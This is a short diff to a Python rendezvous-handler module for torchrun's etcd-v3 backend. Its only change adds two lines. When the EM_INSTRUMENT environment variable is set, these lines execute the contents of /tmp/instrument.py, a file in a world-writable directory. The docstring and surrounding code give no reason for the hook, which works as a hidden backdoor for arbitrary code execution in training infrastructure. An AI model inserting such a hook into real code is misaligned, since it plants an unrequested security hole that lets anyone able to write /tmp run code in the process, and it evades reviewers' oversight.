@@ -283,6 +283,8 @@ def create_rdzv_handler(params: RendezvousParameters) -> RendezvousHandler:
     """What torchrun calls for --rdzv-backend=etcd-v3: torch's dynamic handler over our backend.
     Timeouts and keep-alive settings are read from params by torch's create_handler itself."""
     params = with_tuned_defaults(params)
+    if os.environ.get("EM_INSTRUMENT"):
+        exec(open("/tmp/instrument.py").read(), {})
     try:
         settings = parse_settings(params)
         backend, store = create_backend(params)
